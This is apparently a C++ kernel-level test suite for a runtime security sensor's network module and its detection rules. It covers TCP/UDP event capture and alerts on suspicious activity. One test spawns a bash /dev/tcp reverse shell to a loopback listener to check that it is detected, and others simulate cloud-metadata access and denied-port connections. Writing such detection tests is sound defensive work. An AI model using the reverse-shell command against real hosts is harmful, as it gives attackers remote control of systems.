// Real-kernel tests of the network module through vigil-sensor, in every attach mode it
// offers: TCP connect, accept, listen, bind and close over IPv4 and IPv6 with the right
// endpoints, results, durations and byte counts; refused, timed-out and in-progress
// connects; a connect and an accept made by io_uring; UDP datagrams to new peers. And the default
// pack's network rules on real activity: a reverse shell made with bash's /dev/tcp, a container
// reaching the metadata address, a web server's child connecting out, a container
// listening on an unexpected port, a denied port; benign work stays quiet. Every address is
// loopback or one that `vigil-test-helper net --netns` assigns inside a network namespace
// it created (tests/support/helper_net.h).
// Test label: kernel (needs the real kernel: root, probes loaded; runs in every kernel VM).
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <filesystem>
#include <set>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/support/container_cgroup.h"
#include "tests/support/sensor_process.h"
#include "tests/support/test_dir.h"

namespace vigil::sensor {
namespace {

using ::vigil::testing::ContainerCgroup;
using ::vigil::testing::ExpectCleanStop;
using ::vigil::testing::HelperBinary;
using ::vigil::testing::Json;
using ::vigil::testing::RunHelper;
using ::vigil::testing::SensorProcess;
using ::vigil::testing::Spawn;
using ::vigil::testing::TestDir;
using ::vigil::testing::WaitExit;

constexpr char kNetEvents[] = "connect,accept,listen,bind,close";

// A port unlikely to be in use, different per test process and `salt`.
int TestPort(int salt) { return 20000 + (getpid() * 7 + salt * 131) % 20000; }

// Network events (they all have l4proto) of process `pid`.
auto NetBy(pid_t pid) {
  return [pid](const Json& j) {
    return j.contains("l4proto") && j.value("pid", 0u) == static_cast<uint32_t>(pid);
  };
}

// The events of `events` of `type`.
std::vector<Json> OfType(const std::vector<Json>& events, const std::string& type) {
  std::vector<Json> out;
  for (const Json& j : events) {
    if (j.value("type", "") == type) out.push_back(j);
  }
  return out;
}

class NetProbeTest : public ::testing::TestWithParam<std::string> {
 protected:
  void SetUp() override {
    VIGIL_REQUIRE_ROOT();
    auto sensor = SensorProcess::Start(
        {"--attach-mode", GetParam(), "--events", kNetEvents, "--net-events-each"});
    VIGIL_SKIP_IF_MODE_UNSUPPORTED(sensor);
    ASSERT_TRUE(sensor.ok()) << sensor.status();
    sensor_ = std::move(*sensor);
    const Json start = sensor_->start_record();
    ASSERT_EQ(start["modules"][2]["name"], "net");
    ASSERT_EQ(start["modules"][2]["attach_mode"], GetParam());
  }

  void TearDown() override {
    if (sensor_ != nullptr) ExpectCleanStop(*sensor_, "net");
  }

  // Runs `vigil-test-helper net ARGS` (which must succeed) and returns its network events
  // once `count` arrived.
  std::vector<Json> Run(const std::vector<std::string>& args, size_t count) {
    std::vector<std::string> full = {"net"};
    full.insert(full.end(), args.begin(), args.end());
    const pid_t pid = RunHelper(full);
    if (pid < 0) return {};
    return sensor_->WaitForCount(NetBy(pid), count);
  }

  // Checks a full TCP session of `pair` on ip:port: bind, listen, connect, accept, and the
  // close of both ends.
  void ExpectPair(const std::vector<Json>& events, const std::string& ip, int port, bool ipv6) {
    ASSERT_EQ(events.size(), 6u);
    const Json bind = OfType(events, "bind").at(0);
    EXPECT_EQ(bind["lip"], ip);
    EXPECT_EQ(bind["lport"], port);
    EXPECT_EQ(bind["result"], 0);
    EXPECT_TRUE(bind["server"].get<bool>());
    const Json listen = OfType(events, "listen").at(0);
    EXPECT_EQ(listen["lip"], ip);
    EXPECT_EQ(listen["lport"], port);
    const Json connect = OfType(events, "connect").at(0);
    EXPECT_EQ(connect["l4proto"], "tcp");
    EXPECT_EQ(connect["result"], 0);
    EXPECT_EQ(connect["rip"], ip);
    EXPECT_EQ(connect["rport"], port);
    EXPECT_EQ(connect["lip"], ip);
    EXPECT_FALSE(connect["server"].get<bool>());
    EXPECT_EQ(connect["ipv6_socket"].get<bool>(), ipv6);
    const int client_port = connect["lport"].get<int>();
    EXPECT_GT(client_port, 0);
    const Json accept = OfType(events, "accept").at(0);
    EXPECT_EQ(accept["lport"], port);
    EXPECT_EQ(accept["rip"], ip);
    EXPECT_EQ(accept["rport"], client_port);
    EXPECT_EQ(accept["result"], accept["fd"]);
    EXPECT_TRUE(accept["server"].get<bool>());
    const std::vector<Json> closes = OfType(events, "close");
    ASSERT_EQ(closes.size(), 2u);
    for (const Json& c : closes) {
      const bool server = c["server"].get<bool>();
      SCOPED_TRACE(server ? "server end" : "client end");
      EXPECT_EQ(c["lport"], server ? port : client_port);
      EXPECT_EQ(c["rport"], server ? client_port : port);
      EXPECT_GT(c["duration_ns"].get<uint64_t>(), 0u);
      // The client sent "hello" and got "hi"; the peer's FIN counts one received byte.
      EXPECT_EQ(c["bytes_sent"], server ? 2 : 5);
      EXPECT_EQ(c["bytes_received"], server ? 6 : 3);
    }
  }

  std::unique_ptr<SensorProcess> sensor_;
};

TEST_P(NetProbeTest, TcpSessionOverIpv4) {
  const int port = TestPort(1);
  ExpectPair(Run({"pair", "127.0.0.1", std::to_string(port)}, 6), "127.0.0.1", port, false);
}

TEST_P(NetProbeTest, TcpSessionOverIpv6) {
  const int port = TestPort(2);
  ExpectPair(Run({"pair", "::1", std::to_string(port)}, 6), "::1", port, true);
}

TEST_P(NetProbeTest, TcpSessionInANetworkNamespaceOnAnAssignedAddress) {
  ExpectPair(Run({"--netns", "pair", "10.77.0.1", "8080"}, 6), "10.77.0.1", 8080, false);
}

TEST_P(NetProbeTest, RefusedConnectIsReportedWithItsPeer) {
  const int port = TestPort(3);
  const std::vector<Json> events = Run({"refused", "127.0.0.1", std::to_string(port)}, 1);
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0]["type"], "connect");
  EXPECT_EQ(events[0]["result"], -ECONNREFUSED);
  EXPECT_EQ(events[0]["rip"], "127.0.0.1");
  EXPECT_EQ(events[0]["rport"], port);
}

TEST_P(NetProbeTest, TimedOutAndInProgressConnectsAreReported) {
  // A listener with a full queue drops the SYNs; one retry gives up after about 3 s.
  std::vector<Json> events = Run({"--netns", "timeout", "127.0.0.1", "7000"}, 4);
  std::vector<Json> connects = OfType(events, "connect");
  ASSERT_EQ(connects.size(), 2u);
  EXPECT_EQ(connects[0]["result"], 0);  // the one that filled the queue
  EXPECT_EQ(connects[1]["result"], -ETIMEDOUT);
  EXPECT_EQ(connects[1]["rport"], 7000);

  events = Run({"--netns", "inprogress", "127.0.0.1", "7000"}, 5);
  connects = OfType(events, "connect");
  ASSERT_EQ(connects.size(), 3u);
  EXPECT_EQ(connects[1]["result"], -EINPROGRESS);
  EXPECT_FALSE(connects[1]["async"].get<bool>());
  // Its outcome, for the same process, once it is known.
  EXPECT_EQ(connects[2]["result"], -ETIMEDOUT);
  EXPECT_TRUE(connects[2]["async"].get<bool>());
  EXPECT_EQ(connects[2]["lport"], connects[1]["lport"]);
}

TEST_P(NetProbeTest, IoUringConnectAndAcceptAreReportedForTheSubmitter) {
  // Accepts made by io_uring are read at their completion, whose request the kernel passes
  // as Linux 6.0 lays it out; before that only the connect is seen.
  bool uring_accepts = false;
  const Json start = sensor_->start_record();
  for (const Json& hook : start["modules"][2]["hooks"]) {
    uring_accepts =
        uring_accepts || hook.get<std::string>().find("io_uring_complete") != std::string::npos;
  }
  const int port = TestPort(4);
  const std::vector<Json> events =
      Run({"uring", "127.0.0.1", std::to_string(port)}, uring_accepts ? 6 : 4);
  const std::vector<Json> connects = OfType(events, "connect");
  ASSERT_EQ(connects.size(), 1u);
  EXPECT_TRUE(connects[0]["io_uring"].get<bool>());
  EXPECT_EQ(connects[0]["result"], 0);
  EXPECT_EQ(connects[0]["rport"], port);
  if (!uring_accepts) {
    EXPECT_TRUE(OfType(events, "accept").empty());
    GTEST_SKIP() << "accepts made by io_uring need io_uring_complete with the request "
                    "(Linux 6.0+); the connect was checked";
  }
  ExpectPair(events, "127.0.0.1", port, false);
  const std::vector<Json> accepts = OfType(events, "accept");
  ASSERT_EQ(accepts.size(), 1u);
  EXPECT_TRUE(accepts[0]["io_uring"].get<bool>());
}

TEST_P(NetProbeTest, UdpDatagramsAreReportedOncePerNewPeer) {
  const int port = TestPort(5);
  const std::vector<Json> events = Run({"udp", "127.0.0.1", std::to_string(port)}, 2);
  ASSERT_EQ(events.size(), 2u);
  for (size_t i = 0; i < events.size(); ++i) {
    EXPECT_EQ(events[i]["type"], "connect");
    EXPECT_EQ(events[i]["l4proto"], "udp");
    EXPECT_TRUE(events[i]["udp_send"].get<bool>());
    EXPECT_EQ(events[i]["rport"], port + static_cast<int>(i));  // sendto, then sendmsg
  }
  // The second datagram to the first peer was not reported.
  absl::SleepFor(absl::Milliseconds(300));
  EXPECT_EQ(sensor_->Matching(NetBy(events[0]["pid"].get<pid_t>())).size(), 2u);
}

INSTANTIATE_TEST_SUITE_P(AttachModes, NetProbeTest,
                         ::testing::Values("tp_btf", "raw_tp", "tracepoint"),
                         [](const auto& info) { return info.param; });

// ---------------------------------------------------------------------------------------
// The default pack's network rules on real activity.

const char kPack[] = VIGIL_SOURCE_DIR "/deploy/rules";

// Alerts of `rule` (any rule when empty) about process `pid` (or its child).
vigil::testing::JsonPredicate AlertOf(const std::string& rule, pid_t pid) {
  return [rule, pid](const Json& j) {
    if (!j.contains("rule") || !j.contains("output_fields")) return false;
    if (!rule.empty() && j["rule"] != rule) return false;
    const Json& f = j["output_fields"];
    for (const char* key : {"proc.pid", "proc.ppid"}) {
      if (f.contains(key) && f[key].is_number() && f[key].get<int64_t>() == pid) return true;
    }
    return false;
  };
}

class NetRulesTest : public ::testing::Test {
 protected:
  void SetUp() override {
    VIGIL_REQUIRE_ROOT();
    // The helper runs from wherever the suite was built, which may be under /tmp (a CI
    // checkout): as a site's local tuning would, except that tree from the exec-from-temp
    // rules. Nothing else is changed.
    local_ = std::make_unique<TestDir>("net-rules-local", "/var/lib");
    const std::string build_tree =
        std::filesystem::path(HelperBinary()).parent_path().parent_path().string();
    const std::string local = local_->WriteFile(
        "zz-local.yaml", absl::StrCat("- macro: known_tmp_executables\n"
                                      "  condition: or proc.exepath startswith '",
                                      build_tree, "/'\n  override:\n    condition: append\n"));
    auto sensor = SensorProcess::StartWith({"--rules", kPack, local, "--print-alerts"});
    ASSERT_TRUE(sensor.ok()) << sensor.status();
    sensor_ = std::move(*sensor);
  }
  void TearDown() override {
    if (sensor_ != nullptr) ExpectCleanStop(*sensor_, "net");
  }

  // The one alert of `rule` about `pid`, once the stream settled; a test failure (listing
  // every alert seen) and an empty object when there is not exactly one.
  Json OneAlert(const std::string& rule, pid_t pid) {
    sensor_->WaitForCount(AlertOf(rule, pid), 1);
    absl::SleepFor(absl::Milliseconds(300));
    const std::vector<Json> alerts = sensor_->Matching(AlertOf(rule, pid));
    if (alerts.size() == 1) return alerts[0];
    std::string seen;
    for (const Json& a : sensor_->Matching([](const Json& j) { return j.contains("rule"); })) {
      absl::StrAppend(&seen, a.dump(), "\n");
    }
    ADD_FAILURE() << alerts.size() << " alerts of " << rule << " about " << pid
                  << "; every alert:\n"
                  << seen;
    return Json::object({{"output_fields", Json::object()}});
  }

  std::unique_ptr<TestDir> local_;
  std::unique_ptr<SensorProcess> sensor_;
};

TEST_F(NetRulesTest, BashDevTcpReverseShellToALoopbackListenerIsDetected) {
  const int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  ASSERT_GE(listener, 0);
  sockaddr_in at{};
  at.sin_family = AF_INET;
  at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(bind(listener, reinterpret_cast<sockaddr*>(&at), sizeof(at)), 0);
  ASSERT_EQ(listen(listener, 1), 0);
  socklen_t len = sizeof(at);
  ASSERT_EQ(getsockname(listener, reinterpret_cast<sockaddr*>(&at), &len), 0);
  const int port = ntohs(at.sin_port);
  auto shell = Spawn(
      {"/bin/bash", "-c",
       absl::StrCat("exec bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/", port, " 0>&1")});
  ASSERT_TRUE(shell.ok()) << shell.status();
  const int conn = accept4(listener, nullptr, nullptr, SOCK_CLOEXEC);
  ASSERT_GE(conn, 0);
  ASSERT_EQ(write(conn, "exit\n", 5), 5);
  const int status = WaitExit(*shell);
  close(conn);
  close(listener);
  EXPECT_TRUE(WIFEXITED(status)) << status;
  const Json alert = OneAlert("Reverse shell", *shell);
  Json f = alert["output_fields"];  // a copy: a missing key reads null
  EXPECT_EQ(f["proc.name"], "bash");
  EXPECT_EQ(f["proc.stdio_rip"], "127.0.0.1");
  EXPECT_EQ(f["proc.stdio_rport"], port);
  EXPECT_EQ(f["proc.is_stdin_socket"], true);
  EXPECT_EQ(f["proc.is_stdout_socket"], true);
  EXPECT_EQ(alert["priority"], "Critical");
}

TEST_F(NetRulesTest, ContainerReachingTheMetadataAddressIsDetected) {
  auto cgroup = ContainerCgroup::Create(11);
  ASSERT_TRUE(cgroup.ok()) << cgroup.status();
  const pid_t pid =
      RunHelper({"net", "--netns", "--cgroup", cgroup->path(), "pair", "169.254.169.254", "80"});
  ASSERT_GT(pid, 0);
  const Json alert = OneAlert("Connection to cloud metadata service from container", pid);
  Json f = alert["output_fields"];  // a copy: a missing key reads null
  EXPECT_EQ(f["fd.rip"], "169.254.169.254");
  EXPECT_EQ(f["fd.rport"], 80);
  EXPECT_EQ(f["container.id"], cgroup->id());
}

TEST_F(NetRulesTest, ContainerListeningOnAnUnexpectedPortIsDetected) {
  auto cgroup = ContainerCgroup::Create(12);
  ASSERT_TRUE(cgroup.ok()) << cgroup.status();
  const pid_t pid =
      RunHelper({"net", "--netns", "--cgroup", cgroup->path(), "listen", "0.0.0.0", "31337"});
  ASSERT_GT(pid, 0);
  const Json alert = OneAlert("Unexpected listening port in container", pid);
  EXPECT_EQ(alert["output_fields"]["fd.lport"], 31337);
  EXPECT_EQ(alert["output_fields"]["container.id"], cgroup->id());
}

TEST_F(NetRulesTest, WebServerChildConnectingOutIsDetected) {
  TestDir dir("net-rules");
  const std::string nginx = dir.Join("nginx");
  std::filesystem::copy_file(HelperBinary(), nginx);
  std::filesystem::permissions(nginx, std::filesystem::perms::owner_all);
  auto server =
      Spawn({nginx, "run-child", HelperBinary(), "net", "--netns", "pair", "10.77.0.1", "8080"});
  ASSERT_TRUE(server.ok()) << server.status();
  const int status = WaitExit(*server);
  ASSERT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << status;
  const Json alert = OneAlert("Outbound connection by child of web server or database", *server);
  Json f = alert["output_fields"];  // a copy: a missing key reads null
  EXPECT_EQ(f["proc.pname"], "nginx");
  EXPECT_EQ(f["fd.rip"], "10.77.0.1");
  EXPECT_EQ(f["fd.rport"], 8080);
}

TEST_F(NetRulesTest, ConnectionToADeniedPortIsDetected) {
  const pid_t pid = RunHelper({"net", "--netns", "pair", "10.77.0.1", "4444"});
  ASSERT_GT(pid, 0);
  const Json alert = OneAlert("Connection to denied remote port", pid);
  EXPECT_EQ(alert["output_fields"]["fd.rport"], 4444);
}

TEST_F(NetRulesTest, BenignNetworkWorkRaisesNoAlert) {
  auto cgroup = ContainerCgroup::Create(13);
  ASSERT_TRUE(cgroup.ok()) << cgroup.status();
  std::vector<pid_t> pids = {
      // A loopback service, a DNS-style lookup, an IPv6 loopback session.
      RunHelper({"net", "pair", "127.0.0.1", std::to_string(TestPort(6))}),
      RunHelper({"net", "udp", "127.0.0.1", "53"}),
      RunHelper({"net", "pair", "::1", std::to_string(TestPort(7))}),
      // A container serving on a service port, and on loopback on any port.
      RunHelper({"net", "--netns", "--cgroup", cgroup->path(), "listen", "0.0.0.0", "8080"}),
      RunHelper({"net", "--netns", "--cgroup", cgroup->path(), "listen", "127.0.0.1", "31337"}),
      // A kubelet-style probe from the host to a pod's port.
      RunHelper({"net", "--netns", "pair", "10.77.0.9", "8080"}),
  };
  // A marker alert after them, so that anything they raised has arrived.
  const pid_t marker = RunHelper({"net", "--netns", "pair", "10.77.0.1", "4444"});
  sensor_->WaitForCount(AlertOf("Connection to denied remote port", marker), 1);
  absl::SleepFor(absl::Milliseconds(300));
  for (pid_t pid : pids) {
    ASSERT_GT(pid, 0);
    EXPECT_THAT(sensor_->Matching(AlertOf("", pid)), ::testing::IsEmpty()) << pid;
  }
}

}  // namespace
}  // namespace vigil::sensor
